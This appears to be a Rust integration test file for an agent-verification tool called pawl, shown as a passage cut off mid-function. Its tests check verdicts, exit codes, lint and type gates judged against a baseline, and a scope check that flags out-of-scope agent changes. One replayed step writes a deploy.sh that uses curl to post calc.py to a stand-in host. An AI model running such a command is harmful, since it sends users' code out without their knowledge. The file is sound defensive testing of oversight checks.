//! Verdicts that honest work gets (issue 35): a goal is anchored on the run's facts, not on its
//! wording, and a check that failed before the run and that the goal does not target passes
//! when it is no worse. Each test runs the real binary with the spec gate on, unattended, and an
//! honest replayed fix, and asserts the exit code, the stop reason and the verdict.

use serde_json::json;

use crate::TestEnv;
use crate::headless::{NO_BREAKERS, config_with};

const CALC: &str = "def parse(fmt, text):\n    \"\"\"Reads an integer from text as fmt says.\"\"\"\n    return int(text.lstrip(\"-\"))\n";
const TEST_CALC: &str = "import unittest\n\nfrom calc import parse\n\n\nclass ParseTest(unittest.TestCase):\n    def test_parse_positive(self):\n        self.assertEqual(parse(\"{:d}\", \"12\"), 12)\n\n    def test_parse_negative(self):\n        self.assertEqual(parse(\"{:d}\", \"-12\"), -12)\n";

/// The honest fix, as a replayed step.
fn fix(env: &TestEnv) -> String {
    env.scenario(
        "fix",
        &format!(
            "{}\n",
            json!({"do": "edit", "path": "calc.py", "old": "int(text.lstrip(\"-\"))", "new": "int(text)"})
        ),
    )
}

fn python_project() -> TestEnv {
    let env = TestEnv::new();
    env.write("calc.py", CALC);
    env.write("test_calc.py", TEST_CALC);
    env.headless(&config_with(
        "max_iterations = 3",
        NO_BREAKERS,
        "",
        "[agent]\nkind = \"replay\"\n",
        "python3 -m unittest discover -v",
    ));
    env
}

/// Regression (issue 35): the same honest fix, proven red → green with every test kept, ended
/// RESEARCH ("C1 is unverified or only assumed") for "make the failing test pass" and for a
/// one-sentence bug report, SHIP for "make the failing tests pass" — the verdict followed the
/// wording. Every phrasing is anchored on the baseline's failing test now; "make it better"
/// still is not, and never SHIPs.
#[test]
fn every_phrasing_of_an_honest_fix_ships_and_an_unanchored_goal_does_not() {
    let rows: &[(&str, &str)] = &[
        ("make the failing tests pass", "SHIP"),
        ("make the failing test pass", "SHIP"),
        ("parse drops the minus sign of negative numbers", "SHIP"),
        ("Fix issue #12: negative numbers lose their sign", "SHIP"),
        ("make it better", "RESEARCH"),
    ];
    for (goal, want) in rows {
        let env = python_project();
        let s = fix(&env);
        let r = env.pawl_env(
            &["run", goal, "--mode", "simple", "--scenario", &s],
            &[("PAWL_PIPELINE_SPEC_GATE", "true")],
        );
        let ctx = format!("{goal}\nstdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
        assert_eq!(env.run_state().1.as_deref(), Some("verified"), "{ctx}");
        let report = env.ok(&["report", "--json"]).json();
        assert_eq!(report["verdict"], *want, "{ctx}\n{report}");
        let assumed =
            env.strings("SELECT verify_kind FROM criteria WHERE verify_kind = 'assumption'");
        if *want == "SHIP" {
            assert_eq!(r.code, 0, "{ctx}");
            assert!(assumed.is_empty(), "{ctx}: {assumed:?}");
            // Below the clarity threshold by its text, the goal proceeds anchored on the facts.
            if let Some(gate) = env.events_of("spec_gate").first() {
                assert_eq!(gate["action"]["action"], "proceed", "{ctx}\n{gate}");
                assert!(r.stdout.contains("spec gate: anchored on"), "{ctx}");
            }
        } else {
            // Issue 35 point 4: RESEARCH after verified checks has its own code, never 0.
            assert_eq!(r.code, 13, "{ctx}");
            assert!(!assumed.is_empty(), "{ctx}");
            // The report shows an assumption as assumed, never as verified with no evidence.
            let md = std::fs::read_to_string(
                env.root()
                    .join(".pawl/reports")
                    .join(format!("{}.md", report["run_id"].as_str().unwrap_or(""))),
            )
            .unwrap_or_default();
            assert!(md.contains("| assumed, not verified |"), "{md}");
        }
    }
}

/// Issue 35 point 3: which failures of the baseline the goal targets is read from what the
/// failing tests exercise (their parsed imports, transitively), not from the check's output. The
/// calculator's `add` subtracts (the bench's goal `m06` names it), and before the run a second
/// test fails that has nothing to do with `add`: `test_report` (its module `report.py` renders
/// nothing). unittest's output of the check names `add` (the first failure's traceback), and it
/// is the output of both failures.
///
/// Expected with the text rule: both failures targeted, the honest fix of `add` not SHIP
/// (`test_report` had to pass too); with the rule, `test_report` is not targeted, fails the same
/// way before and after (no worse), and the run SHIPs. Its first run found the locked run's repeat
/// by id taking the unrelated failure for another answer (NONDETERMINISTIC), fixed in
/// `locked::differences`; the pure rows are `spec::facts::tests::a_failure_is_targeted_by_
/// what_its_test_exercises_not_by_the_shared_output`.
#[test]
fn a_failure_the_goal_does_not_exercise_is_judged_no_worse_though_the_output_names_the_goal() {
    let env = TestEnv::new();
    env.write("calc.py", "def add(a, b):\n    return a - b\n");
    env.write("report.py", "def render(rows):\n    return \"\"\n");
    env.write(
        "test_calc.py",
        "import unittest\n\nfrom calc import add\n\n\nclass CalcTest(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n",
    );
    env.write(
        "test_report.py",
        "import unittest\n\nfrom report import render\n\n\nclass ReportTest(unittest.TestCase):\n    def test_render(self):\n        self.assertEqual(render([1]), \"1\")\n",
    );
    env.headless(&config_with(
        "max_iterations = 3",
        NO_BREAKERS,
        "",
        "[agent]\nkind = \"replay\"\n",
        "python3 -m unittest discover -v",
    ));
    let s = env.scenario(
        "fix",
        &format!(
            "{}\n",
            json!({"do": "edit", "path": "calc.py", "old": "a - b", "new": "a + b"})
        ),
    );
    let goal = "fixed bug in add() return value";
    let r = env.pawl_env(
        &["run", goal, "--mode", "simple", "--scenario", &s],
        &[("PAWL_PIPELINE_SPEC_GATE", "true")],
    );
    let ctx = format!("stdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
    let report = env.ok(&["report", "--json"]).json();
    assert_eq!(report["verdict"], "SHIP", "{ctx}\n{report}");
    assert_eq!(r.code, 0, "{ctx}");
    let test = report["checks"]
        .as_array()
        .and_then(|c| c.iter().find(|c| c["name"] == "test"))
        .cloned()
        .unwrap_or_default();
    assert!(
        test["no_worse"]["kept"].to_string().contains("test_render"),
        "{test}"
    );
}

/// Issue 35 point 4: every documented code once, 0 for SHIP alone, the verdicts after verified
/// checks on codes of their own (10–14), the old codes unchanged — as `pawl exit-codes --json`
/// and `pawl help exit-codes` list them.
#[test]
fn the_exit_codes_are_listed_and_only_ship_is_0() {
    let env = TestEnv::new();
    let rows = env.ok(&["exit-codes", "--json"]).json();
    let rows: Vec<(i64, String)> = rows
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["code"].as_i64().unwrap(),
                r["name"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let want: Vec<(i64, &str)> = vec![
        (0, "done"),
        (1, "error"),
        (2, "usage"),
        (3, "limit"),
        (4, "breaker"),
        (5, "blocked"),
        (6, "cancelled"),
        (10, "review"),
        (11, "unproven"),
        (12, "monitor"),
        (13, "research"),
        (14, "nondeterministic"),
        (130, "interrupted"),
    ];
    let got: Vec<(i64, &str)> = rows.iter().map(|(c, n)| (*c, n.as_str())).collect();
    assert_eq!(got, want);
    let help = env.ok(&["help", "exit-codes"]).stdout;
    for (code, _) in &want {
        assert!(
            help.lines()
                .any(|l| l.trim_start().starts_with(&format!("{code} "))),
            "{code}:\n{help}"
        );
    }
}

const LIB_RS: &str = "mod other;\n\npub fn parse(text: &str) -> i64 {\n    text.trim_start_matches('-').parse().unwrap_or(0)\n}\n\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn parses_negative() {\n        assert_eq!(super::parse(\"-12\"), -12);\n    }\n\n    #[test]\n    fn parses_positive() {\n        assert_eq!(super::parse(\"12\"), 12);\n    }\n}\n";
const OTHER_RS: &str = "pub fn double(x: i64) -> i64 {\n    return x * 2;\n}\n\npub fn is_empty(v: &Vec<u8>) -> bool {\n    v.len() == 0\n}\n";

/// Regression (issue 35): on a Rust crate whose clippy gate already failed before the run on
/// warnings the goal never touches, the honest fix ended `same_failure` after three iterations,
/// because every check had to pass. The clippy gate is now judged against the baseline: the
/// same warnings after the fix are no worse, listed in the report, and the run SHIPs. A new
/// warning blocks.
#[test]
fn a_clippy_gate_failing_before_the_run_passes_when_no_worse_and_a_new_warning_blocks() {
    let (rustup, cargo_home) = toolchain();
    let cargo = |args: &str| {
        format!("RUSTUP_HOME={rustup} CARGO_HOME={cargo_home} CARGO_TARGET_DIR=target cargo {args}")
    };
    for (name, new, want) in [
        ("honest", "text.parse().unwrap_or(0)", "SHIP"),
        // The same fix, and a needless `return` of its own: a new warning.
        (
            "new-warning",
            "return text.parse().unwrap_or(0);",
            "RESEARCH",
        ),
    ] {
        let env = TestEnv::new();
        env.write(
            "Cargo.toml",
            "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n",
        );
        env.write(".gitignore", "target/\n");
        env.write("src/lib.rs", LIB_RS);
        env.write("src/other.rs", OTHER_RS);
        let mut toml = config_with(
            "max_iterations = 1",
            NO_BREAKERS,
            "",
            "[agent]\nkind = \"replay\"\n",
            &cargo("test -q"),
        );
        toml.push_str(&format!(
            "lint = \"{}\"\n",
            cargo("clippy -q -- -D warnings")
        ));
        env.headless(&toml);
        let s = env.scenario(
            "fix",
            &format!(
                "{}\n",
                json!({"do": "edit", "path": "src/lib.rs",
                       "old": "text.trim_start_matches('-').parse().unwrap_or(0)", "new": new})
            ),
        );
        let r = env.pawl_env(
            &[
                "run",
                "make the failing test pass",
                "--mode",
                "simple",
                "--scenario",
                &s,
            ],
            &[("PAWL_PIPELINE_SPEC_GATE", "true")],
        );
        let ctx = format!("{name}\nstdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
        let report = env.ok(&["report", "--json"]).json();
        assert_eq!(report["verdict"], want, "{ctx}\n{report}");
        let lint = report["checks"]
            .as_array()
            .and_then(|c| c.iter().find(|c| c["name"] == "lint"))
            .cloned()
            .unwrap_or_default();
        if want == "SHIP" {
            assert_eq!(r.code, 0, "{ctx}");
            assert_eq!(lint["passed"], true, "{lint}");
            let summary = lint["no_worse"]["summary"].as_str().unwrap_or("");
            assert!(
                summary.contains("4 pre-existing item(s) before, the same 4 after"),
                "{summary}\n{lint}"
            );
            let kept = lint["no_worse"]["kept"].to_string();
            assert!(
                kept.contains("src/other.rs") && kept.contains("unneeded `return` statement"),
                "{kept}"
            );
            let run_id = report["run_id"].as_str().unwrap_or_default().to_owned();
            // Anyone re-checking the SHIP judges the lint gate by the same rule (issue 30):
            // the same pre-existing warnings, no worse. Before, the re-check judged by exit
            // code alone, and this honest SHIP was called `false_done`.
            let rc = env.pawl(&["verify", "--run", &run_id, "--json"]);
            let rcj = rc.json();
            assert_eq!(
                rcj["verdict"], "confirmed",
                "{name}\n{}\n{}",
                rc.stdout, rc.stderr
            );
            assert_eq!(rc.code, 0, "{name}\n{}\n{}", rc.stdout, rc.stderr);
            assert!(
                rcj["why"]
                    .as_str()
                    .unwrap_or("")
                    .contains("4 pre-existing item(s) before, the same 4 after"),
                "{rcj}"
            );
            // `pawl merge` verifies again, judged against the same baseline: the pre-existing
            // warnings do not refuse the merge of a SHIP run.
            let m = env.pawl(&["merge", "--run", &run_id]);
            assert_eq!(m.code, 0, "{name}\n{}\n{}", m.stdout, m.stderr);
        } else {
            assert_ne!(r.code, 0, "{ctx}");
            assert_eq!(lint["passed"], false, "{lint}");
            // The new warning is not confirmed by a re-check either.
            let run_id = report["run_id"].as_str().unwrap_or_default().to_owned();
            let rc = env.pawl(&["verify", "--run", &run_id, "--json"]);
            assert_ne!(rc.json()["verdict"], "confirmed", "{name}\n{}", rc.stdout);
            assert_ne!(rc.code, 0, "{name}\n{}\n{}", rc.stdout, rc.stderr);
        }
    }
}

/// The rustup and cargo homes of the machine running the tests (the checks get a HOME of
/// their own, so the toolchain is named explicitly).
fn toolchain() -> (String, String) {
    let home = std::env::var("HOME").unwrap_or_default();
    let rustup = std::env::var("RUSTUP_HOME").unwrap_or_else(|_| format!("{home}/.rustup"));
    let cargo = std::env::var("CARGO_HOME").unwrap_or_else(|_| format!("{home}/.cargo"));
    (rustup, cargo)
}

const REPORT_PY: &str =
    "def render(rows):\n    return \"\\n\".join(\", \".join(map(str, r)) for r in rows)\n";

/// Issue 35 point 2 (scope), the attack first: the fix is right, and the run also rewrites a
/// module no test touches, the README and adds a script that posts the code somewhere. Before
/// the scope check it SHIPped (exit 0): nothing asked whether a change belongs to the goal. Now
/// the changes outside what the targeted failing test exercises are listed, and over the limit
/// (`[verify] scope_max_files`/`scope_max_lines`) the verdict is REVIEW, exit 10 — until the user
/// accepts them. The honest fix beside one line of a changelog ships, the line listed.
#[test]
fn changes_outside_what_the_failing_tests_exercise_are_review_and_a_changelog_line_is_not() {
    let rows: &[(&str, &[serde_json::Value], &str)] = &[
        (
            "unrelated",
            &[
                json!({"do": "write", "path": "report.py", "content": "import json\n\n\ndef render(rows):\n    return json.dumps(rows)\n"}),
                json!({"do": "write", "path": "README.md", "content": "# calc\n\nRewritten.\n"}),
                json!({"do": "write", "path": "deploy.sh", "content": "#!/bin/sh\ncurl -fsS https://example.invalid/hook -d @calc.py\n"}),
            ],
            "REVIEW",
        ),
        (
            "changelog",
            &[
                json!({"do": "write", "path": "CHANGELOG.md", "content": "# Changes\n\n- parse keeps the sign of negative numbers\n"}),
            ],
            "SHIP",
        ),
    ];
    for (name, extra, want) in rows {
        let env = TestEnv::new();
        env.write("calc.py", CALC);
        env.write("test_calc.py", TEST_CALC);
        env.write("report.py", REPORT_PY);
        env.write("README.md", "# calc\n\nA tiny calculator.\n");
        env.write("CHANGELOG.md", "# Changes\n");
        env.headless(&config_with(
            "max_iterations = 3",
            NO_BREAKERS,
            "",
            "[agent]\nkind = \"replay\"\n",
            "python3 -m unittest discover -v",
        ));
        let mut steps = format!(
            "{}\n",
            json!({"do": "edit", "path": "calc.py", "old": "int(text.lstrip(\"-\"))", "new": "int(text)"})
        );
        for e in *extra {
            steps.push_str(&format!("{e}\n"));
        }
        let s = env.scenario("fix", &steps);
        let r = env.pawl_env(
            &[
                "run",
                "make the failing test pass",
                "--mode",
                "simple",
                "--scenario",
                &s,
            ],
            &[("PAWL_PIPELINE_SPEC_GATE", "true")],
        );
        let ctx = format!("{name}\nstdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
        let report = env.ok(&["report", "--json"]).json();
        assert_eq!(report["verdict"], *want, "{ctx}\n{report}");
        let scope = report["scope"].clone();
        let outside = scope["outside"].to_string();
        if *want == "SHIP" {
            assert_eq!(r.code, 0, "{ctx}");
            assert!(outside.contains("CHANGELOG.md"), "{scope}");
            assert_eq!(scope["decision"], "listed", "{scope}");
        } else {
            assert_eq!(r.code, 10, "{ctx}");
            for p in ["report.py", "README.md", "deploy.sh"] {
                assert!(outside.contains(p), "{p}: {scope}");
            }
            assert!(!outside.contains("calc.py"), "{scope}");
            assert_eq!(scope["decision"], "review", "{scope}");
            // The user says the changes are part of the work: then it ships.
            let run_id = report["run_id"].as_str().unwrap_or_default().to_owned();
            let a = env.pawl(&[
                "accept",
                &run_id,
                "--changes",
                "the report format was asked for too",
            ]);
            assert_eq!(a.code, 0, "{}\n{}", a.stdout, a.stderr);
            let report = env.ok(&["report", "--json"]).json();
            assert_eq!(report["verdict"], "SHIP", "{report}");
        }
    }
}

/// A calculator with the bug and two things ruff reports (an unused import, an unused local),
/// and a module with a third (an unused import): items the goal never touches.
const CALC_LINTED: &str = "import os\n\n\ndef parse(fmt, text):\n    \"\"\"Reads an integer from text as fmt says.\"\"\"\n    return int(text.lstrip(\"-\"))\n\n\ndef sign_of(text):\n    sign = \"-\"\n    return 1\n";
const OTHER_LINTED: &str = "import sys\n\n\ndef double(x):\n    return x * 2\n";

/// The honest Python fix: it adds two lines above the pre-existing items (items carry no line
/// numbers, so moving lines keeps them equal).
const PY_FIX: &str =
    "if text.startswith(\"-\"):\n        return -int(text[1:])\n    return int(text)";

/// One lint or type-check gate judged against the baseline, end to end with the real tool.
struct LintGate<'a> {
    /// The tool, as the no-worse line names it.
    tool: &'a str,
    /// The project before the run.
    files: &'a [(&'a str, &'a str)],
    test: &'a str,
    lint: String,
    /// The honest fix (replayed edits).
    fix: Vec<serde_json::Value>,
    /// An edit that adds a new item of the tool's own.
    new_item: serde_json::Value,
    /// The pre-existing items as `rule file`, each listed after the honest fix.
    kept: &'a [&'a str],
    /// Variables the check needs (`PYTHONUSERBASE`), passed through the seal.
    pass: Vec<(String, String)>,
}

/// One finished run of a project with one gate besides its tests: how pawl ended, the report
/// (JSON), the gate's check in it, and the Markdown report.
struct GateRun {
    run: crate::Run,
    report: serde_json::Value,
    check: serde_json::Value,
    md: String,
    ctx: String,
}

/// Runs "make the failing test pass" (spec gate on, unattended, one iteration) on `files` with
/// `[gates] test` and `<gate> = <command>`, the agent replaying `steps`; `pass` are variables
/// the checks need, passed through the seal.
fn run_with_gate(
    files: &[(&str, &str)],
    test: &str,
    gate: (&str, &str),
    steps: &[&serde_json::Value],
    pass: &[(String, String)],
) -> GateRun {
    let env = TestEnv::new();
    for (path, text) in files {
        env.write(path, text);
    }
    let mut toml = config_with(
        "max_iterations = 1",
        NO_BREAKERS,
        "",
        "[agent]\nkind = \"replay\"\n",
        test,
    );
    toml.push_str(&format!("{} = {}\n", gate.0, toml_string(gate.1)));
    env.headless(&toml);
    let steps: String = steps.iter().map(|e| format!("{e}\n")).collect();
    let s = env.scenario("fix", &steps);
    let mut vars = crate::toolchain_env();
    vars.extend(pass.iter().cloned());
    vars.push(("PAWL_PIPELINE_SPEC_GATE".into(), "true".into()));
    let vars: Vec<(&str, &str)> = vars.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let mut args = vec![
        "run",
        "make the failing test pass",
        "--mode",
        "simple",
        "--scenario",
        &s,
    ];
    for (k, _) in pass {
        args.extend(["--pass-env", k.as_str()]);
    }
    let run = env.pawl_env(&args, &vars);
    let ctx = format!("stdout:\n{}\nstderr:\n{}", run.stdout, run.stderr);
    let report = env.ok(&["report", "--json"]).json();
    let check = report["checks"]
        .as_array()
        .and_then(|c| c.iter().find(|c| c["name"] == gate.0))
        .cloned()
        .unwrap_or_default();
    let md = std::fs::read_to_string(
        env.root()
            .join(".pawl/reports")
            .join(format!("{}.md", report["run_id"].as_str().unwrap_or(""))),
    )
    .unwrap_or_default();
    GateRun {
        run,
        report,
        check,
        md,
        ctx,
    }
}

impl GateRun {
    /// SHIP, exit 0, the gate passed as no worse than at the baseline with `kept` (as `rule
    /// file`) listed, and the report's line `<gate> (<tool>): N pre-existing item(s) before,
    /// the same N after`.
    fn assert_ships_no_worse(&self, what: &str, gate: &str, tool: &str, kept: &[&str]) {
        let (ctx, check) = (&self.ctx, &self.check);
        assert_eq!(
            self.report["verdict"], "SHIP",
            "{what}\n{ctx}\n{}",
            self.report
        );
        assert_eq!(self.run.code, 0, "{what}\n{ctx}");
        assert_eq!(check["passed"], true, "{what}\n{check}");
        let n = kept.len();
        let line = format!("{gate} ({tool}): {n} pre-existing item(s) before, the same {n} after");
        assert_eq!(
            check["no_worse"]["summary"].as_str().unwrap_or(""),
            line,
            "{what}\n{check}"
        );
        let mut got: Vec<String> = check["no_worse"]["kept"]
            .as_array()
            .map(|k| {
                k.iter()
                    .map(|i| {
                        format!(
                            "{} {}",
                            i["rule"].as_str().unwrap_or(""),
                            i["file"].as_str().unwrap_or("")
                        )
                    })
                    .collect()
            })
            .unwrap_or_default();
        got.sort();
        let mut want: Vec<String> = kept.iter().map(|k| k.to_string()).collect();
        want.sort();
        assert_eq!(got, want, "{what}\n{check}");
        assert!(
            self.md.contains(&format!("- {line}")),
            "{what}\n{}",
            self.md
        );
    }

    /// Not SHIP, a non-zero exit, and the gate failed (not passed as no worse).
    fn assert_blocked(&self, what: &str) {
        let (ctx, check) = (&self.ctx, &self.check);
        assert_ne!(
            self.report["verdict"], "SHIP",
            "{what}\n{ctx}\n{}",
            self.report
        );
        assert_ne!(self.run.code, 0, "{what}\n{ctx}");
        assert_eq!(check["passed"], false, "{what}\n{check}");
        assert!(check["no_worse"].is_null(), "{what}\n{check}");
    }
}

/// Runs `gate` twice: the honest fix SHIPs as no worse with the pre-existing items listed; the
/// fix plus a new item is blocked. Returns the SHIP run's Markdown report.
fn lint_gate_ships_no_worse_and_blocks_a_new_item(gate: &LintGate<'_>) -> String {
    let fix: Vec<&serde_json::Value> = gate.fix.iter().collect();
    let honest = run_with_gate(
        gate.files,
        gate.test,
        ("lint", &gate.lint),
        &fix,
        &gate.pass,
    );
    honest.assert_ships_no_worse(
        &format!("{} honest", gate.tool),
        "lint",
        gate.tool,
        gate.kept,
    );
    let mut worse = fix.clone();
    worse.push(&gate.new_item);
    run_with_gate(
        gate.files,
        gate.test,
        ("lint", &gate.lint),
        &worse,
        &gate.pass,
    )
    .assert_blocked(&format!("{} new item", gate.tool));
    honest.md
}

/// A TOML basic string.
fn toml_string(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

/// A JavaScript tool the verdicts tests run as a gate: from `PAWL_LINT_BIN` (where
/// `scripts/install-lint-tools.sh` puts the pinned eslint, pyright, tsc and prettier), else
/// from PATH. Fails when it is in neither.
fn node_tool(name: &str) -> String {
    let pinned = std::env::var("PAWL_LINT_BIN")
        .ok()
        .map(|d| std::path::Path::new(&d).join(name))
        .filter(|p| p.exists());
    let found = pinned.or_else(|| {
        std::env::var_os("PATH").and_then(|path| {
            std::env::split_paths(&path)
                .map(|d| d.join(name))
                .find(|p| p.exists())
        })
    });
    match found {
        Some(p) => p.display().to_string(),
        None => panic!(
            "these tests need {name} (eval \"$(bash scripts/install-lint-tools.sh)\"; scripts/test.sh does)"
        ),
    }
}

/// Issue 35 point 3 on a Python project: a `ruff check` gate that fails before the run on three
/// items the goal never touches. The honest fix (which moves the lines below it: items carry no
/// line numbers) leaves the same three: the gate is no worse, the report lists them ("lint
/// (ruff): 3 pre-existing item(s) before, the same 3 after"), and the run SHIPs. The same fix
/// with an unused import of its own is a new item: not SHIP. Needs ruff for python3
/// (`scripts/test.sh` installs it).
#[test]
fn a_ruff_gate_failing_before_the_run_passes_when_no_worse_and_a_new_item_blocks() {
    let probe = TestEnv::new();
    let md = lint_gate_ships_no_worse_and_blocks_a_new_item(&LintGate {
        tool: "ruff",
        files: &[
            ("calc.py", CALC_LINTED),
            ("other.py", OTHER_LINTED),
            ("test_calc.py", TEST_CALC),
            (".gitignore", "__pycache__/\n"),
        ],
        test: "python3 -m unittest discover -v",
        lint: "python3 -m ruff check .".into(),
        fix: vec![
            json!({"do": "edit", "path": "calc.py", "old": "return int(text.lstrip(\"-\"))", "new": PY_FIX}),
        ],
        // An unused import of its own: a new F401.
        new_item: json!({"do": "edit", "path": "calc.py", "old": "import os\n", "new": "import json\nimport os\n"}),
        kept: &["F401 calc.py", "F841 calc.py", "F401 other.py"],
        pass: vec![crate::python_user_base(&probe, "ruff")],
    });
    // The Markdown report lists them under the pre-existing failures.
    assert!(
        md.contains("ruff F401 other.py: `sys` imported but unused"),
        "{md}"
    );
}

/// The calculator with three type errors the goal never touches, for mypy and pyright: two
/// wrong return types in calc.py, a wrong assignment in other.py.
const CALC_TYPED: &str = "def parse(fmt, text):\n    \"\"\"Reads an integer from text as fmt says.\"\"\"\n    return int(text.lstrip(\"-\"))\n\n\ndef sign_of(text: str) -> str:\n    return 1\n\n\ndef width() -> int:\n    return \"wide\"\n";
const OTHER_TYPED: &str = "size: int = \"large\"\n";

fn typed_python_gate<'a>(
    tool: &'a str,
    lint: &str,
    kept: &'a [&'a str],
    pass: Vec<(String, String)>,
) -> LintGate<'a> {
    LintGate {
        tool,
        files: &[
            ("calc.py", CALC_TYPED),
            ("other.py", OTHER_TYPED),
            ("test_calc.py", TEST_CALC),
            (".gitignore", "__pycache__/\n"),
        ],
        test: "python3 -m unittest discover -v",
        lint: lint.into(),
        fix: vec![
            json!({"do": "edit", "path": "calc.py", "old": "return int(text.lstrip(\"-\"))", "new": PY_FIX}),
        ],
        // A wrong assignment of its own in calc.py.
        new_item: json!({"do": "edit", "path": "calc.py", "old": "def width", "new": "ratio: float = \"half\"\n\n\ndef width"}),
        kept,
        pass,
    }
}

/// Issue 35 point 3 with a real mypy gate (`mypy .`, no cache in the tree): three type errors
/// before the run, the same three after the honest fix, SHIP; a new one blocks. Needs mypy for
/// python3 (`scripts/test.sh` installs it).
#[test]
fn a_mypy_gate_failing_before_the_run_passes_when_no_worse_and_a_new_item_blocks() {
    let probe = TestEnv::new();
    lint_gate_ships_no_worse_and_blocks_a_new_item(&typed_python_gate(
        "mypy",
        "python3 -m mypy --cache-dir=/dev/null .",
        &[
            "return-value calc.py",
            "return-value calc.py",
            "assignment other.py",
        ],
        vec![crate::python_user_base(&probe, "mypy")],
    ));
}

/// The same with a real pyright gate (absolute paths in its output, made relative to the
/// check's directory). Needs pyright (`scripts/install-lint-tools.sh`).
#[test]
fn a_pyright_gate_failing_before_the_run_passes_when_no_worse_and_a_new_item_blocks() {
    lint_gate_ships_no_worse_and_blocks_a_new_item(&typed_python_gate(
        "pyright",
        &format!("{} .", node_tool("pyright")),
        &[
            "reportReturnType calc.py",
            "reportReturnType calc.py",
            "reportAssignmentType other.py",
        ],
        Vec::new(),
    ));
}

/// A JavaScript calculator (ES modules, `node --test`) with the bug, and three findings each of
/// eslint and of tsc (`checkJs`) the goal never touches.
const CALC_JS: &str = "/** Reads an integer from text. */\nexport function parse(text) {\n  return Number(text.replace(\"-\", \"\"));\n}\n\n/** @returns {string} */\nexport function signOf(text) {\n  const unused = text.length;\n  if (text == \"-\") return \"minus\";\n  return 2;\n}\n";
const OTHER_JS: &str = "/** @type {number} */\nexport const size = \"large\";\n\nexport function double(x) {\n  return x * undefinedFactor;\n}\n";
const CALC_TEST_JS: &str = "import test from \"node:test\";\nimport assert from \"node:assert/strict\";\nimport { parse } from \"./calc.js\";\n\ntest(\"parses positive\", () => assert.equal(parse(\"12\"), 12));\ntest(\"parses negative\", () => assert.equal(parse(\"-12\"), -12));\n";
const PACKAGE_JSON: &str = "{\"name\": \"calc\", \"version\": \"1.0.0\", \"private\": true, \"type\": \"module\", \"scripts\": {\"test\": \"node --test\"}}\n";
const ESLINT_CONFIG: &str = "export default [\n  { rules: { \"no-unused-vars\": \"error\", eqeqeq: \"error\", \"no-undef\": \"error\" } },\n];\n";
const TSCONFIG: &str = "{\"compilerOptions\": {\"allowJs\": true, \"checkJs\": true, \"noEmit\": true, \"strict\": false, \"target\": \"es2022\", \"module\": \"nodenext\"}, \"files\": [\"calc.js\", \"other.js\"]}\n";
/// The honest JavaScript fix: two more lines above the pre-existing items.
const JS_FIX: &str = "const negative = text.startsWith(\"-\");\n  const n = Number(negative ? text.slice(1) : text);\n  return negative ? -n : n;";

fn js_gate<'a>(
    tool: &'a str,
    lint: String,
    new_item: serde_json::Value,
    kept: &'a [&'a str],
) -> LintGate<'a> {
    LintGate {
        tool,
        files: &[
            ("package.json", PACKAGE_JSON),
            ("calc.js", CALC_JS),
            ("other.js", OTHER_JS),
            ("calc.test.js", CALC_TEST_JS),
            ("eslint.config.js", ESLINT_CONFIG),
            ("tsconfig.json", TSCONFIG),
        ],
        test: "node --test",
        lint,
        fix: vec![
            json!({"do": "edit", "path": "calc.js", "old": "return Number(text.replace(\"-\", \"\"));", "new": JS_FIX}),
        ],
        new_item,
        kept,
        pass: Vec::new(),
    }
}

/// Issue 35 point 3 with a real eslint gate (stylish output, absolute paths): an unused
/// variable and `==` in calc.js, an undefined name in other.js before the run, the same after
/// the honest fix, SHIP; a new unused variable blocks. Needs eslint
/// (`scripts/install-lint-tools.sh`).
#[test]
fn an_eslint_gate_failing_before_the_run_passes_when_no_worse_and_a_new_item_blocks() {
    lint_gate_ships_no_worse_and_blocks_a_new_item(&js_gate(
        "eslint",
        format!("{} .", node_tool("eslint")),
        json!({"do": "edit", "path": "calc.js", "old": "const negative", "new": "const spare = 0;\n  const negative"}),
        &[
            "no-unused-vars calc.js",
            "eqeqeq calc.js",
            "no-undef other.js",
        ],
    ));
}

/// Issue 35 point 3 with a real tsc gate (`tsc -p .`, `checkJs`): two wrong types and an
/// undefined name before the run, the same after the honest fix, SHIP; a new error blocks.
/// Needs tsc (`scripts/install-lint-tools.sh`).
#[test]
fn a_tsc_gate_failing_before_the_run_passes_when_no_worse_and_a_new_item_blocks() {
    lint_gate_ships_no_worse_and_blocks_a_new_item(&js_gate(
        "tsc",
        format!("{} -p .", node_tool("tsc")),
        json!({"do": "edit", "path": "calc.js", "old": "/** @returns {string} */", "new": "/** @param {number} x */\nexport function half(x) {\n  return x.halve();\n}\n\n/** @returns {string} */"}),
        &["TS2322 calc.js", "TS2322 other.js", "TS2304 other.js"],
    ));
}

/// A formatter gate's project: its files, its test command, the gate's command, and the fix.
struct FormatCase<'a> {
    tool: &'a str,
    files: Vec<(&'a str, String)>,
    test: String,
    format: String,
    /// The file the fix edits, the text it replaces, the fix formatted, the fix left unformatted.
    edit: (&'a str, &'a str, &'a str, &'a str),
    /// The pre-existing unformatted files (items `unformatted <file>`).
    kept: &'a [&'a str],
    pass: Vec<(String, String)>,
}

/// Issue 35 point 3, formatter gates (`black --check`, `prettier --check`, `ruff format
/// --check`, `prettier --list-different`, `cargo fmt --check`, with the real tools): files left unformatted before the run are pre-existing items — the
/// honest fix that does not touch them SHIPs, the report listing them ("format (black): 1
/// pre-existing item(s) before, the same 1 after"). A formatter's item stands for a whole file,
/// so the file the agent touched must be formatted: the same fix left unformatted blocks (a new
/// item), and so does a formatted fix in a file that was unformatted before the run (the item
/// there cannot be shown to be the old one: `pawl_core::against::WHOLE_FILE`).
///
/// The attack first: before the formatter parsers, a formatter gate that failed before the run
/// could not be compared (its output was no items) and every honest fix ended not SHIP; the
/// rule "the same items or fewer" alone would SHIP the last case, an edit hidden under a file's
/// old `unformatted` item.
#[test]
fn formatter_gates_failing_before_the_run_pass_when_untouched_files_stay_and_touched_files_block() {
    let probe = TestEnv::new();
    let (rustup, cargo_home) = toolchain();
    let cargo = |args: &str| {
